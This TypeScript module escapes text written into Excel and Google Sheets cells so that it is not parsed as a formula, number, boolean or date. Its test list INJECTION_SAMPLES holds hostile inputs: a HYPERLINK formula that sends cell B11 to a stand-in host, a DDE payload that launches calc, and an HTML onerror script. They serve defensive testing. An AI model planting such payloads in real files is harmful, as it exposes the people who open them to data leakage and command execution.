/**
 * The one escape for text written into a spreadsheet. Excel (`Range.values`) and Google Sheets
 * (`setValues`) parse what they are given as if a person typed it: `=1+1`, `+1+1`, `-2+3` and
 * `@SUM(1,1)` become formulas, `007` a number, `TRUE` a boolean, `Jan 5` a date. A leading apostrophe
 * tells both hosts "this is text"; they keep it out of the cell's value and do not show it.
 *
 * Every text that came from a person or a data file (names, notes, summary lines, template labels) is
 * written through {@link enteredText}; renderers of typed files (`.xlsx`) store the text itself as a
 * string cell and need no escape.
 */

const FORMULA_START = /^[=+\-@']/;
const NUMBER_LIKE = /^\s*[(]?[$€£¥]?\s*[0-9.,]/;
const BOOLEAN = /^(true|false)$/i;
const MONTH_DATE = /^(jan|feb|mar|apr|may|jun|jul|aug|sep|oct|nov|dec)[a-z]*\.?\s+\d/i;

/** True when a host that parses typed input would store `text` as something other than this text. */
export function needsTextEscape(text: string): boolean {
  return FORMULA_START.test(text) || NUMBER_LIKE.test(text) || BOOLEAN.test(text.trim()) || MONTH_DATE.test(text);
}

/**
 * `text` as it must be entered so the cell holds exactly `text`: with a leading apostrophe when the
 * host would otherwise read it as a formula, number, boolean or date. The empty string stays empty.
 *
 * ```ts
 * enteredText('=HYPERLINK("http://x.example","y")') // "'=HYPERLINK(\"http://x.example\",\"y\")"
 * enteredText('Sales onboarding')                     // 'Sales onboarding'
 * ```
 */
export function enteredText(text: string): string {
  return needsTextEscape(text) ? `'${text}` : text; // the empty string matches none of the patterns
}

/** A cell value for a host write: strings escaped with {@link enteredText}, numbers and booleans as they are. */
export function enteredValue<T>(value: T): T | string {
  return typeof value === 'string' ? enteredText(value) : value;
}

/**
 * Strings a hostile or careless user may type where a name is expected; every write path is tested
 * with each of them (none may be stored as a formula).
 */
export const INJECTION_SAMPLES: readonly string[] = [
  '=1+1',
  '+1+1',
  '-2+3',
  '@SUM(1,1)',
  '=HYPERLINK("http://x.example/?q="&B11,"y")',
  "=cmd|' /C calc'!A0",
  '<img src=x onerror=alert(1)>',
];
